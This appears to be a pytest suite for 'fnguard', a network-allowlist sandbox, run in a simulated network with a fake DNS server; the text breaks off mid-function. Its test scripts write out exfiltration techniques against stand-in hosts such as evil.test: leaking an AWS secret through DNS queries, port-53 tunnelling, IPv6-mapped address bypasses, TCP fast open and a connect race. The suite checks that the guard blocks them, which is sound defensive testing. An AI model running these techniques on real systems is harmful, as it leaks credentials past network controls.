"""The network allowlist against a world: fnguard runs inside a network
namespace whose resolv.conf names a fake DNS server, and every judgement is
made on what that world saw (names the DNS server received, connections
and datagrams the servers logged), on exit codes and on log lines.

Each case that refuses something also checks, where it helps, that a bare
run (no fnguard) in the same world gets through: otherwise a refusal would
prove nothing. See networld.py for the world's layout and records.
"""
import json
import socket

import pytest

from conftest import (EXIT_VIOLATION, NODE, PY, NET_MODES, base_env, helper,
                      runner_in_mode)
from networld import ADDR, ADDR6, networld, networld_factory  # noqa: F401 (fixtures)

pytestmark = pytest.mark.usefixtures("kernel_tier")


@pytest.fixture(params=NET_MODES)
def run_fnguard(request, tmp_path):
    """Every case in both socket modes (see conftest.runner_in_mode)."""
    return runner_in_mode(tmp_path, request.param)

T = 30  # seconds: bound on any one run
SECRET = "Zq8sK2mW9xLp4TnR7vB3cY6hJ1dF5gE0aXc"  # a DNS label: letters and digits
EPERM, EOPNOTSUPP, ENOPROTOOPT = 1, 95, 92


def net_env(**kw):
    return base_env(**kw)


def policy(*allow, action="kill", loopback=None, log_allowed=False):
    lines = ["version: 1", "network:",
             "  allow: [" + ", ".join(json.dumps(a) for a in allow) + "]",
             f"  action: {action}"]
    if loopback is not None:
        lines.append(f"  loopback: {'true' if loopback else 'false'}")
    if log_allowed:
        lines += ["log:", "  allowed: true"]
    return "\n".join(lines) + "\n"


def guard(run_fnguard, world, pol, argv, env=None, **kw):
    return run_fnguard(pol, argv, prefix=world.prefix, env=env or net_env(), timeout=T, **kw)


def bare(world, argv, env=None):
    return world.client_run(argv, env=env, timeout=T)


def ctx(res, world):
    return res.dump() + "\n" + world.dump()


def names_like(world, fragment):
    return [n for n in world.dns_names() if fragment in n]


# ---- allowed domains ---------------------------------------------------------

PY_URLLIB = r"""
import sys, urllib.request
for u in sys.argv[1:]:
    print(urllib.request.urlopen(u, timeout=10).read().decode().strip())
"""


def test_allowed_domain_python_urllib(run_fnguard, networld):
    w = networld
    res = guard(run_fnguard, w, policy("api.allowed.test:80", "www.allowed.test:8080",
                                       log_allowed=True),
                [PY, "-c", PY_URLLIB, "http://api.allowed.test/py",
                 "http://www.allowed.test:8080/cname"])
    assert res.returncode == 0, ctx(res, w)
    out = res.stdout.split("\n")
    assert out[0].startswith("networld ok ") and out[0].endswith(" /py"), ctx(res, w)
    assert out[1].endswith(" /cname"), ctx(res, w)
    # The upstream saw both names, from the stub (nothing else was asked).
    assert w.dns_queries("api.allowed.test", to="resolver"), ctx(res, w)
    assert w.dns_queries("www.allowed.test", to="resolver"), ctx(res, w)
    reqs = w.http_requests("http")
    assert sorted((r["path"], r["port"]) for r in reqs) == [("/cname", 8080), ("/py", 80)]
    assert [c["role"] for c in w.connections()] == ["http", "http"], ctx(res, w)
    assert res.of("dns", action="allow", name="api.allowed.test"), res.dump()
    # Allowed connects name the domain behind the address and the rule.
    conns = res.of("connect", action="allow", proto="tcp")
    assert {(c["port"], c["domain"], c["rule"]) for c in conns} == {
        (80, "api.allowed.test", "api.allowed.test:80"),
        (8080, "www.allowed.test", "www.allowed.test:8080")}, res.dump()
    assert not res.of("connect", action="kill") and not res.of("dns", action="kill")


NODE_HTTP = r"""
const http = require('http');
http.get(process.argv[1], (r) => {
  let b = '';
  r.on('data', (d) => b += d);
  r.on('end', () => console.log(r.statusCode, b.trim()));
}).on('error', (e) => { console.log('error', e.code); process.exit(3); });
"""


def test_allowed_domain_node_http(run_fnguard, networld):
    w = networld
    res = guard(run_fnguard, w, policy("api.allowed.test"),
                [NODE, "-e", NODE_HTTP, "http://api.allowed.test:8080/node"])
    assert res.returncode == 0, ctx(res, w)
    assert res.stdout.startswith("200 networld ok ") and "/node" in res.stdout, ctx(res, w)
    assert w.dns_queries("api.allowed.test", to="resolver"), ctx(res, w)
    assert [(r["path"], r["port"]) for r in w.http_requests("http")] == [("/node", 8080)]
    assert {c["role"] for c in w.connections()} == {"http"}, ctx(res, w)
    # The name went through the stub (allowed lines are only counted by default).
    counts = res.one("exit")["counts"]
    assert counts["dns"]["allow"] >= 1 and counts["connect"]["allow"] >= 1, res.dump()


def test_allowed_domain_with_port_node_http(run_fnguard, networld):
    """node's dns.lookup asks getaddrinfo without a service: glibc then
    UDP-connects to port 0 of each answer to sort them (RFC 3484). That
    probe must not be a violation under a rule with a port."""
    w = networld
    res = guard(run_fnguard, w, policy("api.allowed.test:8080"),
                [NODE, "-e", NODE_HTTP, "http://api.allowed.test:8080/node"])
    assert res.returncode == 0, ctx(res, w)
    assert res.stdout.startswith("200 networld ok "), ctx(res, w)
    assert [(r["path"], r["port"]) for r in w.http_requests("http")] == [("/node", 8080)]


def test_allowed_domain_curl(run_fnguard, networld):
    w = networld
    curl = ["/usr/bin/curl", "-sS", "--max-time", "10"]
    res = guard(run_fnguard, w, policy("api.allowed.test:80"),
                curl + ["http://api.allowed.test/curl"])
    assert res.returncode == 0, ctx(res, w)
    assert res.stdout.startswith("networld ok ") and "/curl" in res.stdout, ctx(res, w)
    assert w.dns_queries("api.allowed.test", to="resolver"), ctx(res, w)
    assert [r["path"] for r in w.http_requests("http")] == ["/curl"]
    # curl to a name outside the list: killed before anything is asked upstream.
    res = guard(run_fnguard, w, policy("api.allowed.test:80"), curl + ["http://evil.test/"])
    assert res.returncode == EXIT_VIOLATION, ctx(res, w)
    assert not names_like(w, "evil.test"), ctx(res, w)
    assert w.connections("forbidden") == [], ctx(res, w)
    assert res.of("dns", action="kill", name="evil.test"), res.dump()


# ---- unknown domains, literal addresses --------------------------------------

def test_unknown_domain_killed_never_asked_never_connected(run_fnguard, networld):
    w = networld
    argv = [PY, "-c", PY_URLLIB, "http://evil.test/exfil"]
    res = guard(run_fnguard, w, policy("api.allowed.test:80"), argv)
    assert res.returncode == EXIT_VIOLATION, ctx(res, w)
    assert names_like(w, "evil") == [], ctx(res, w)
    assert w.connections() == [], ctx(res, w)
    ev = res.of("dns", action="kill")
    assert ev and ev[0]["name"] == "evil.test" and ev[0]["qtype"] in ("A", "AAAA"), res.dump()
    assert ev[0]["rule"] == "network.allow", ev
    assert not res.of("connect"), res.dump()
    # Bare, the world resolves and serves it.
    p = bare(w, argv)
    assert p.returncode == 0 and "/exfil" in p.stdout, p.stderr
    assert w.dns_queries("evil.test") and w.connections("forbidden")


PY_CONNECT = r"""
import socket, sys
for a in sys.argv[1:]:
    host, port = a.rsplit(":", 1)
    try:
        s = socket.create_connection((host.strip("[]"), int(port)), timeout=5)
        s.sendall(b"data-to-" + a.encode())
        s.close()
        print(a, "ok", flush=True)
    except OSError as e:
        print(a, "err", e.errno, flush=True)
"""


def test_literal_ip_outside_list_killed(run_fnguard, networld):
    w = networld
    argv = [PY, "-c", PY_CONNECT, f"{ADDR['forbidden']}:443"]
    res = guard(run_fnguard, w, policy("api.allowed.test", "192.0.2.0/24:80"), argv)
    assert res.returncode == EXIT_VIOLATION, ctx(res, w)
    assert w.connections() == [], ctx(res, w)
    ev = res.one("connect", action="kill")
    assert (ev["proto"], ev["addr"], ev["port"], ev["domain"]) == (
        "tcp", ADDR["forbidden"], 443, None), ev
    assert w.dns_queries() == []
    p = bare(w, argv)
    assert "ok" in p.stdout, p.stderr
    assert [c["data"] for c in w.connections("forbidden")] == [f"data-to-{ADDR['forbidden']}:443"]


PY_SELECT = r"""
import socket, sys
# getaddrinfo without a service, two answers: glibc UDP-connects to port 0
# of each to sort them (RFC 3484).
print(sorted({a[4][0] for a in socket.getaddrinfo("api.allowed.test", None)}), flush=True)
for a in sys.argv[1:]:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        u.connect((a, 0)); print(a, "ok", flush=True)
    except OSError as e:
        print(a, "err", e.errno, flush=True)
"""


def test_address_selection_probe_to_port_zero(run_fnguard, networld):
    """glibc's port-0 UDP connect (nothing is sent) passes for addresses a
    rule covers on some port, and only for those."""
    w = networld
    argv = [PY, "-c", PY_SELECT, ADDR["sink"], ADDR["forbidden"]]
    res = guard(run_fnguard, w, policy("api.allowed.test:8080", "198.51.100.9/32:9000",
                                       action="deny"), argv)
    assert res.returncode == 0, ctx(res, w)
    assert res.stdout.split("\n")[:3] == [
        str(sorted([ADDR["http"], ADDR6["http"]])), f"{ADDR['sink']} ok",
        f"{ADDR['forbidden']} err {EPERM}"], ctx(res, w)
    ev = res.one("connect", action="deny")
    assert (ev["proto"], ev["addr"], ev["port"]) == ("udp", ADDR["forbidden"], 0), ev
    res = guard(run_fnguard, w, policy("api.allowed.test:8080"), argv[:3])
    assert res.returncode == 0, ctx(res, w)
    assert w.connections() == [] and w.events("dns", "malformed") == []


# ---- DNS exfiltration ----------------------------------------------------------

PY_EXFIL = r"""
import os, socket, struct, sys
secret = os.environ["AWS_SECRET_ACCESS_KEY"]
# 1. through the resolver (glibc).
try:
    socket.getaddrinfo(secret + ".evil.test", 80)
    print("gai resolved")
except socket.gaierror as e:
    print("gai", e.errno)
# 2. a hand-made query straight to an address that is not the nameserver.
name = (secret.lower() + ".exfil.evil.test").encode()
q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l for l in name.split(b".")) + b"\0" + struct.pack("!HH", 16, 1)
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
d.settimeout(5)
d.sendto(q, (sys.argv[1], 53))
try:
    r, src = d.recvfrom(2048)
    print("raw", struct.unpack("!H", r[:2])[0], r[3] & 15, src[0], src[1])
except OSError as e:
    print("raw err", e.errno)
# 3. the same through sendmsg/recvmsg, on a fresh socket, another name.
m = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
m.settimeout(5)
q2 = q.replace(b"\x05exfil", b"\x05msgex")
m.sendmsg([q2[:12], q2[12:]], [], 0, (sys.argv[1], 53))
try:
    r, _, _, src = m.recvmsg(2048)
    print("msg", struct.unpack("!H", r[:2])[0], r[3] & 15, src[0], src[1])
except OSError as e:
    print("msg err", e.errno)
"""


def test_dns_exfiltration_of_a_secret_never_upstream_and_redacted(run_fnguard, networld):
    w = networld
    other = "198.51.100.77"  # not the nameserver; the world would answer there too
    env = net_env(AWS_SECRET_ACCESS_KEY=SECRET)
    res = guard(run_fnguard, w, policy("api.allowed.test", action="deny"),
                [PY, "-c", PY_EXFIL, other], env=env)
    assert res.returncode == 0, ctx(res, w)
    out = res.stdout.split("\n")
    assert out[0] == f"gai {socket.EAI_NONAME}", ctx(res, w)
    # The NXDOMAIN answer comes back as if from the address that was asked.
    assert out[1] == f"raw {0x4242} 3 {other} 53", ctx(res, w)
    assert out[2] == f"msg {0x4242} 3 {other} 53", ctx(res, w)
    # Never upstream, by any path.
    assert w.dns_queries() == [], ctx(res, w)
    assert w.connections() == []
    dns = res.of("dns", action="deny")
    names = sorted(e["name"] for e in dns)
    assert "[REDACTED:AWS_SECRET_ACCESS_KEY].evil.test" in names, res.dump()
    assert "[REDACTED:AWS_SECRET_ACCESS_KEY].exfil.evil.test" in names, res.dump()
    assert "[REDACTED:AWS_SECRET_ACCESS_KEY].msgex.evil.test" in names, res.dump()
    assert {e["qtype"] for e in dns} >= {"A", "TXT"}, res.dump()
    # The value never reaches the log, in any case.
    raw = res.log_path.read_bytes()
    assert SECRET.encode() not in raw and SECRET.lower().encode() not in raw
    assert SECRET.lower() not in raw.decode().lower()
    assert SECRET.lower() not in res.stderr.lower()
    # Bare, both queries reach the world's DNS server.
    p = bare(w, [PY, "-c", PY_EXFIL, other], env=base_env(AWS_SECRET_ACCESS_KEY=SECRET))
    assert p.returncode == 0, p.stderr
    assert len(names_like(w, SECRET.lower())) >= 3, w.dump()
    assert len(w.dns_queries(to=other)) == 2, w.dump()


def test_dns_exfiltration_killed(run_fnguard, networld):
    w = networld
    env = net_env(AWS_SECRET_ACCESS_KEY=SECRET)
    res = guard(run_fnguard, w, policy("api.allowed.test"),
                [PY, "-c", PY_EXFIL, ADDR["resolver"]], env=env)
    assert res.returncode == EXIT_VIOLATION, ctx(res, w)
    assert "gai" not in res.stdout, ctx(res, w)
    assert w.dns_queries() == [], ctx(res, w)
    ev = res.of("dns", action="kill")
    assert ev and ev[0]["name"] == "[REDACTED:AWS_SECRET_ACCESS_KEY].evil.test", res.dump()
    assert SECRET.lower() not in res.log_path.read_bytes().decode().lower()


PY_TUNNEL = r"""
import socket, sys
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(1)
u.sendto(b"SECRET-over-udp-53 not dns", (sys.argv[1], 53))
try:
    u.recvfrom(100); print("udp reply")
except OSError as e:
    print("udp none")
try:
    t = socket.create_connection((sys.argv[1], 53), timeout=2)
    t.sendall(b"\x00\x10SECRET-over-tcp!")
    print("tcp reply" if t.recv(100) else "tcp closed")
except OSError as e:
    print("tcp err", e)
"""


def test_port_53_is_not_a_tunnel(run_fnguard, networld):
    """Bytes that are not a DNS query, sent to port 53, reach nobody."""
    w = networld
    argv = [PY, "-c", PY_TUNNEL, ADDR["forbidden"]]
    res = guard(run_fnguard, w, policy("api.allowed.test", action="deny"), argv)
    assert res.returncode == 0, ctx(res, w)
    assert "udp none" in res.stdout and "tcp reply" not in res.stdout, ctx(res, w)
    assert w.events() == [], ctx(res, w)
    p = bare(w, argv)
    assert "udp reply" in p.stdout and "tcp reply" in p.stdout, p.stdout + p.stderr
    assert {e["transport"] for e in w.events("dns", "malformed")} == {"udp", "tcp"}


PY_NAMES = r"""
import socket, sys
for n in sys.argv[1:]:
    try:
        print(n, sorted({a[4][0] for a in socket.getaddrinfo(n, 80, socket.AF_INET)}))
    except socket.gaierror as e:
        print(n, "gai", e.errno)
"""


def test_wildcard_and_case(run_fnguard, networld):
    """`*.wild.test` matches subdomains only; names match case-insensitively
    and without regard to a trailing dot."""
    w = networld
    names = ["Deep.Sub.WILD.test.", "wild.test", "notwild.test", "API.Allowed.Test."]
    res = guard(run_fnguard, w, policy("*.wild.test", "api.allowed.test", action="deny"),
                [PY, "-c", PY_NAMES] + names)
    assert res.returncode == 0, ctx(res, w)
    nx = f"gai {socket.EAI_NONAME}"
    assert res.stdout.split("\n")[:4] == [
        f"Deep.Sub.WILD.test. ['{ADDR['http']}']", f"wild.test {nx}", f"notwild.test {nx}",
        f"API.Allowed.Test. ['{ADDR['http']}']"], ctx(res, w)
    assert set(w.dns_names()) == {"deep.sub.wild.test", "api.allowed.test"}, ctx(res, w)
    assert {e["name"].lower() for e in res.of("dns", action="deny")} == {
        "wild.test", "notwild.test"}, res.dump()


# ---- UDP: sendto, sendmsg, sendmmsg ---------------------------------------------

PY_UDP = r"""
import socket, sys
sink, forbidden = sys.argv[1:3]
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for how in ("sendto", "sendmsg"):
    for a, port in ((sink, 9000), (forbidden, 9000), (sink, 443)):
        tag = f"{how}-{a}-{port}".encode()
        try:
            if how == "sendto":
                n = u.sendto(tag, (a, port))
            else:
                n = u.sendmsg([tag[:4], tag[4:]], [], 0, (a, port))
            print(how, a, port, "sent", n)
        except OSError as e:
            print(how, a, port, "err", e.errno)
"""


def test_udp_sendto_and_sendmsg_allowed_cidr(run_fnguard, networld):
    w = networld
    sink, forb = ADDR["sink"], ADDR["forbidden"]
    res = guard(run_fnguard, w, policy("198.51.100.0/24:9000", action="deny"),
                [PY, "-c", PY_UDP, sink, forb])
    assert res.returncode == 0, ctx(res, w)
    for how in ("sendto", "sendmsg"):
        tag = f"{how}-{sink}-9000"
        assert f"{how} {sink} 9000 sent {len(tag)}" in res.stdout, ctx(res, w)
        assert f"{how} {forb} 9000 err {EPERM}" in res.stdout, ctx(res, w)
        assert f"{how} {sink} 443 err {EPERM}" in res.stdout, ctx(res, w)
    got = sorted((c["role"], c["port"], c["data"]) for c in w.connections(proto="udp"))
    assert got == [("sink", 9000, f"sendmsg-{sink}-9000"),
                   ("sink", 9000, f"sendto-{sink}-9000")], ctx(res, w)
    refused = res.of("send", action="deny")
    assert sorted((e["proto"], e["addr"], e["port"]) for e in refused) == sorted(
        [("udp", forb, 9000), ("udp", sink, 443)] * 2), res.dump()
    # Bare, every datagram lands.
    bare(w, [PY, "-c", PY_UDP, sink, forb])
    assert len(w.connections("forbidden", proto="udp")) == 2
    assert len(w.connections("sink", proto="udp", port=443)) == 2


def test_udp_sendmmsg(run_fnguard, networld):
    w = networld
    sink, forb = ADDR["sink"], ADDR["forbidden"]
    mmsg = helper("udp_mmsg")
    pol = policy("198.51.100.0/24:9000", action="deny")
    res = guard(run_fnguard, w, pol, [mmsg, "9000", sink, sink, forb, sink])
    assert res.returncode == 0, ctx(res, w)
    assert "ret=2 errno=0 len0=2 len1=2 len2=12345 len3=12345" in res.stdout, ctx(res, w)
    assert sorted(c["data"] for c in w.connections("sink", proto="udp")) == ["m0", "m1"]
    assert w.connections("forbidden") == [], ctx(res, w)
    res = guard(run_fnguard, w, pol, [mmsg, "9000", forb, sink])
    assert f"ret=-1 errno={EPERM}" in res.stdout, ctx(res, w)
    assert w.connections("forbidden") == [] and len(w.connections("sink")) == 2
    # kill: the first forbidden datagram ends it, nothing reaches it.
    res = guard(run_fnguard, w, policy("198.51.100.0/24:9000"), [mmsg, "9000", sink, forb])
    assert res.returncode == EXIT_VIOLATION, ctx(res, w)
    assert w.connections("forbidden") == [], ctx(res, w)
    ev = res.one("send", action="kill")
    assert (ev["proto"], ev["addr"], ev["port"], ev["domain"]) == ("udp", forb, 9000, None)
    p = bare(w, [mmsg, "9000", sink, forb])
    assert "ret=2" in p.stdout and [c["data"] for c in w.connections("forbidden")] == ["m1"]


def test_udp_send_to_learned_name(run_fnguard, networld):
    """A datagram to an address learned from an allowed name goes; one to a
    port the rule does not name is refused with the name in `domain`."""
    w = networld
    src = r"""
import socket
a = socket.getaddrinfo("sink.allowed.test", 9000, socket.AF_INET, socket.SOCK_DGRAM)[0][4]
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print(u.sendto(b"learned", a))
try:
    u.sendto(b"other-port", (a[0], 443)); print("sent?")
except OSError as e:
    print("err", e.errno)
"""
    res = guard(run_fnguard, w, policy("sink.allowed.test:9000", action="deny"),
                [PY, "-c", src])
    assert res.stdout.split() == ["7", "err", str(EPERM)], ctx(res, w)
    assert [(c["port"], c["data"]) for c in w.connections("sink")] == [(9000, "learned")]
    ev = res.one("send", action="deny")
    assert (ev["addr"], ev["port"], ev["domain"]) == (ADDR["sink"], 443, "sink.allowed.test")


# ---- IPv4-mapped IPv6 (and the other IPv4-in-IPv6 forms) ------------------------

PY_V6 = r"""
import socket, sys
for a in sys.argv[1:]:
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect((a, 9000)); s.sendall(b"v6:" + a.encode()); print(a, "ok")
    except OSError as e:
        print(a, "err", e.errno)
    s.close()
"""


def test_ipv4_mapped_ipv6_judged_as_ipv4(run_fnguard, networld):
    w = networld
    mapped_ok = "::ffff:" + ADDR["sink"]
    mapped_bad = "::ffff:" + ADDR["forbidden"]
    nat64_bad = "64:ff9b::cb00:7107"        # 203.0.113.7
    sixto4_bad = "2002:cb00:7107::1"         # 203.0.113.7
    nat64_ok = "64:ff9b::c633:6409"         # 198.51.100.9
    dests = [mapped_ok, mapped_bad, nat64_bad, sixto4_bad, nat64_ok]
    res = guard(run_fnguard, w, policy("198.51.100.9/32:9000", action="deny"),
                [PY, "-c", PY_V6] + dests)
    assert res.returncode == 0, ctx(res, w)
    for a in (mapped_ok, nat64_ok):
        assert f"{a} ok" in res.stdout, ctx(res, w)
    for a in (mapped_bad, nat64_bad, sixto4_bad):
        assert f"{a} err {EPERM}" in res.stdout, ctx(res, w)
    got = sorted(c["data"] for c in w.connections(proto="tcp"))
    assert got == sorted([f"v6:{mapped_ok}", f"v6:{nat64_ok}"]), ctx(res, w)
    assert len(res.of("connect", action="deny")) == 3, res.dump()
    # Bare, all five connect (the world answers on every address).
    p = bare(w, [PY, "-c", PY_V6] + dests)
    assert p.stdout.count(" ok") == 5, p.stdout + p.stderr
    # And a forbidden mapped address with kill: 159, never reached.
    n = len(w.connections())
    res = guard(run_fnguard, w, policy("198.51.100.9/32:9000"), [PY, "-c", PY_V6, mapped_bad])
    assert res.returncode == EXIT_VIOLATION, ctx(res, w)
    assert len(w.connections()) == n, ctx(res, w)


# ---- TCP fast open ------------------------------------------------------------

PY_TFO = r"""
import socket, sys
dest = (sys.argv[1], 443)
MSG_FASTOPEN = 0x20000000
TCP_FASTOPEN_CONNECT = 30
def attempt(what, fn):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)  # blocking: TFO waits
    try:
        r = fn(s); print(what, "ok", r, flush=True)
    except OSError as e:
        print(what, "err", e.errno, flush=True)
    s.close()
attempt("sendto", lambda s: s.sendto(b"tfo-sendto", MSG_FASTOPEN, dest))
attempt("sendmsg", lambda s: s.sendmsg([b"tfo-sendmsg"], [], MSG_FASTOPEN, dest))
def tfo_connect(s):
    try:
        s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
        print("setsockopt ok", flush=True)
    except OSError as e:
        print("setsockopt err", e.errno, flush=True)
    s.connect(dest)
    return s.send(b"tfo-connect")
attempt("connect", tfo_connect)
"""


def test_tcp_fast_open_does_not_connect(run_fnguard, networld):
    w = networld
    forb = ADDR["forbidden"]
    # Bare first: fast open reaches the forbidden server all three ways.
    p = bare(w, [PY, "-c", PY_TFO, forb])
    assert p.stdout.count(" ok") == 4, p.stdout + p.stderr
    assert sorted(c["data"] for c in w.connections("forbidden")) == [
        "tfo-connect", "tfo-sendmsg", "tfo-sendto"], w.dump()
    before = len(w.connections())
    res = guard(run_fnguard, w, policy("192.0.2.80/32:443", action="deny"),
                [PY, "-c", PY_TFO, forb])
    assert res.returncode == 0, ctx(res, w)
    bpf = run_fnguard.engine == "bpf"
    # The bpf engine's connect hook judges a fast-open send like a connect
    # (EPERM, logged); the notify path refuses MSG_FASTOPEN outright.
    tfo_err = EPERM if bpf else EOPNOTSUPP
    assert f"sendto err {tfo_err}" in res.stdout, ctx(res, w)
    assert f"sendmsg err {tfo_err}" in res.stdout, ctx(res, w)
    assert f"setsockopt err {ENOPROTOOPT}" in res.stdout, ctx(res, w)
    assert f"connect err {EPERM}" in res.stdout, ctx(res, w)   # judged as a plain connect
    assert len(w.connections()) == before, ctx(res, w)
    denied = [e for e in res.events if e["event"] == "connect"]
    assert len(denied) == (3 if bpf else 1), ctx(res, w)
    assert all(e["action"] == "deny" and e["addr"] == forb for e in denied), ctx(res, w)
    # To an allowed address the fallback (plain connect) works; with bpf,
    # fast open itself does (its destination was judged).
    res = guard(run_fnguard, w, policy("192.0.2.80/32:443", action="deny"),
                [PY, "-c", PY_TFO, ADDR["http"]])
    assert "connect ok 11" in res.stdout, ctx(res, w)
    assert sorted(c["data"] for c in w.connections("http")) == (
        ["tfo-connect", "tfo-sendmsg", "tfo-sendto"] if bpf else ["tfo-connect"]), ctx(res, w)
    assert len(w.connections("forbidden")) == 3, ctx(res, w)


# ---- the sockaddr race ----------------------------------------------------------

def test_racing_thread_never_reaches_forbidden(run_fnguard, networld):
    w = networld
    race = helper("connect_race")
    args = [ADDR["sink"], ADDR["forbidden"], "9000"]
    # Bare, the race reaches the forbidden server (on a loaded machine the
    # flipping thread may not run during a short burst: a few tries).
    for _ in range(5):
        p = bare(w, [race, "1000"] + args)
        assert p.returncode == 0, p.stderr
        bare_forbidden = len(w.connections("forbidden"))
        if bare_forbidden:
            break
    assert bare_forbidden > 0, "bare, the race never reached the forbidden server\n" + p.stdout
    bare_sink = len(w.connections("sink"))
    res = guard(run_fnguard, w, policy("198.51.100.9/32:9000", action="deny"),
                [race, "1000"] + args)
    assert res.returncode == 0, ctx(res, w)
    got = len(w.connections("forbidden")) - bare_forbidden
    assert got == 0, f"{got} connections got through\n" + res.stdout
    counts = dict(kv.split("=") for kv in res.stdout.split())
    ok, refused = int(counts["ok"]), int(counts["refused"])
    # Both addresses were in play, and every connect that succeeded landed on the sink.
    # (Under bpf a connect takes microseconds, not a notification round trip:
    # the flipping thread runs between fewer of them, so fewer are allowed.)
    least = 10 if run_fnguard.engine == "bpf" else 50
    assert ok >= least and refused >= least, res.stdout
    assert len(w.connections("sink")) - bare_sink == ok, res.stdout


# ---- DNS over TCP ----------------------------------------------------------------

PY_TCPDNS = r"""
import socket, struct, sys
def ask(name, server, qtype=1):
    q = struct.pack("!HHHHHH", 0x5151, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l for l in name.encode().split(b".")) + b"\0"
    q += struct.pack("!HH", qtype, 1)
    s = socket.create_connection((server, 53), timeout=5)
    s.sendall(struct.pack("!H", len(q)) + q)
    n = struct.unpack("!H", s.recv(2))[0]
    r = b""
    while len(r) < n:
        r += s.recv(n - len(r))
    return r[3] & 15, struct.unpack("!H", r[6:8])[0]
for name in sys.argv[2:]:
    try:
        print(name, *ask(name, sys.argv[1]), flush=True)
    except OSError as e:
        print(name, "err", e.errno, flush=True)
"""


PY_TC_V4 = r"""
import socket
a = socket.getaddrinfo("tcp.allowed.test", 80, socket.AF_INET, socket.SOCK_STREAM)[0][4]
s = socket.create_connection(a, timeout=5)
s.sendall(b"GET /tc HTTP/1.0\r\nHost: tcp.allowed.test\r\n\r\n")
buf = b""
while True:
    c = s.recv(4096)
    if not c:
        break
    buf += c
print(buf.split(b"\r\n\r\n", 1)[-1].decode().strip())
"""


def test_dns_over_tcp(run_fnguard, networld):
    w = networld
    # glibc: tcp.allowed.test is truncated over UDP, retried over TCP.
    res = guard(run_fnguard, w, policy("tcp.allowed.test:80"), [PY, "-c", PY_TC_V4])
    assert res.returncode == 0 and res.stdout.strip().endswith("/tc"), ctx(res, w)
    qs = w.dns_queries("tcp.allowed.test")
    assert {(q["transport"], q["tc"]) for q in qs} == {("udp", True), ("tcp", False)}, ctx(res, w)
    assert all(q["role"] == "resolver" for q in qs), ctx(res, w)
    assert [r["path"] for r in w.http_requests("http")] == ["/tc"]
    # Hand-made DNS over TCP to any address: allowed name forwarded
    # (answered with one A record), others NXDOMAIN and never sent.
    other = "198.51.100.77"
    res = guard(run_fnguard, w, policy("v4.allowed.test", action="deny"),
                [PY, "-c", PY_TCPDNS, other, "v4.allowed.test", "leak.evil.test",
                 "v4.allowed.test"])
    assert res.returncode == 0, ctx(res, w)
    assert res.stdout.split("\n")[:3] == ["v4.allowed.test 0 1", "leak.evil.test 3 0",
                                          "v4.allowed.test 0 1"], ctx(res, w)
    assert names_like(w, "evil") == [], ctx(res, w)
    assert [q["transport"] for q in w.dns_queries("v4.allowed.test")] == ["tcp", "tcp"]
    assert res.one("dns", action="deny")["name"] == "leak.evil.test"
    # kill over TCP: 159, never upstream.
    res = guard(run_fnguard, w, policy("v4.allowed.test"),
                [PY, "-c", PY_TCPDNS, ADDR["resolver"], "leak2.evil.test"])
    assert res.returncode == EXIT_VIOLATION, ctx(res, w)
    assert names_like(w, "evil") == [], ctx(res, w)
    # Bare, the world answers those names over TCP.
    p = bare(w, [PY, "-c", PY_TCPDNS, other, "leak.evil.test"])
    assert p.stdout.strip() == "leak.evil.test 3 0", p.stdout + p.stderr
    assert names_like(w, "evil") == ["leak.evil.test"]


PY_PIPELINED = r"""
import socket, struct, sys
def query(qid, name, qtype):
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l for l in name.encode().split(b".")) + b"\0"
    q += struct.pack("!HH", qtype, 1)
    return struct.pack("!H", len(q)) + q
s = socket.create_connection((sys.argv[1], 53), timeout=3)
# Two queries in one segment, as glibc sends A and AAAA over TCP.
s.sendall(query(1, sys.argv[2], 1) + query(2, sys.argv[2], 28))
buf = b""
try:
    for _ in range(2):
        while len(buf) < 2 or len(buf) < 2 + struct.unpack("!H", buf[:2])[0]:
            c = s.recv(4096)
            if not c:
                raise OSError("closed")
            buf += c
        n = struct.unpack("!H", buf[:2])[0]
        print("answer", struct.unpack("!H", buf[2:4])[0], buf[5] & 15, flush=True)
        buf = buf[2 + n:]
except OSError as e:
    print("err", e, flush=True)
"""


def test_dns_over_tcp_pipelined_queries(run_fnguard, networld):
    w = networld
    p = bare(w, [PY, "-c", PY_PIPELINED, ADDR["resolver"], "v4.allowed.test"])
    assert p.stdout.split("\n")[:2] == ["answer 1 0", "answer 2 0"], p.stdout + p.stderr
    res = guard(run_fnguard, w, policy("v4.allowed.test"),
                [PY, "-c", PY_PIPELINED, ADDR["resolver"], "v4.allowed.test"])
    assert res.stdout.split("\n")[:2] == ["answer 1 0", "answer 2 0"], ctx(res, w)
    # What glibc does for an AF_UNSPEC lookup of a name truncated over UDP.
    res = run_fnguard(policy("tcp.allowed.test:80"), [PY, "-c", PY_URLLIB,
                      "http://tcp.allowed.test/tc"], prefix=w.prefix, env=net_env(), timeout=10)
    assert res.returncode == 0 and res.stdout.strip().endswith("/tc"), ctx(res, w)


# ---- node: threadpool (getaddrinfo) and c-ares ------------------------------------

NODE_DNS = r"""
const dns = require('dns');
const http = require('http');
const out = {};
const lookup = (n) => new Promise((ok) => dns.lookup(n, {family: 4}, (e, a) => ok(e ? e.code : a)));
const r4 = (n) => dns.promises.resolve4(n).catch((e) => e.code);
const get = (u) => new Promise((ok) => http.get(u, (r) => {
  let b = ''; r.on('data', (d) => b += d); r.on('end', () => ok(r.statusCode));
}).on('error', (e) => ok(e.code)));
(async () => {
  out.lookup = await lookup('api.allowed.test');
  out.resolve4 = await r4('v4.allowed.test');
  out.resolve_tc = await r4('tcp.allowed.test');
  out.resolve_evil = await r4('evil.test');
  out.lookup_evil = await lookup('www.evil.test');
  out.http = await get('http://api.allowed.test:8080/node-after');
  console.log(JSON.stringify(out));
})();
"""


def test_node_threadpool_and_cares_deny(run_fnguard, networld):
    w = networld
